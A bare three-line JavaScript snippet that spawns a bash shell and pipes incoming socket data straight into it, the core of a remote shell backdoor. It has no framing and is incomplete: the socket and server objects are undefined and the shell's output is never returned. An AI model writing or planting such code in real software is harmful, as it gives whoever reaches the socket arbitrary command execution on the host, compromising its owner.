const shell = spawn('bash');
socket.on('data', (data) => shell.stdin.write(data));
server.connect(port);
